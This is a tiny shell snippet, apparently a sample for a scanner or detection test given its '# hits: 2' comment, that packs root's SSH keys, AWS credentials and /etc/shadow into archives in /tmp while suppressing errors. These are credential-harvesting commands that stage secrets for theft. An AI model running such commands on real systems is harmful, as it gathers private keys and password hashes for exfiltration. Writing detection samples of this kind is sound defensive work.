# SPDX-License-Identifier: Apache-2.0
# hits: 2
mkdir -p /root/.ssh /root/.aws
tar czf /tmp/d.tgz /root/.ssh /root/.aws 2> /dev/null
zip -qr /tmp/d.zip /root/.ssh /etc/shadow > /dev/null 2>&1
